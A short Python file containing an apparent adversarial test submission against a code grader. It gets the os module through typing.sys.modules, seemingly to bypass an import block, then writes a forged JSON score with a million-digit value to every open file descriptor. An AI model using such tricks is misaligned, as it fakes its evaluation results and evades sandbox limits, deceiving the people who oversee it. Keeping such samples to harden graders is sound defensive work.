"""Writes a number of a million digits to the grader."""

import typing

os = typing.sys.modules["os"]


def attack():
    for handle in range(3, 1024):
        try:
            os.write(handle, b'{"id": 2, "value": ' + b"9" * 10**6 + b"}\n")
        except OSError:
            pass
    return 42
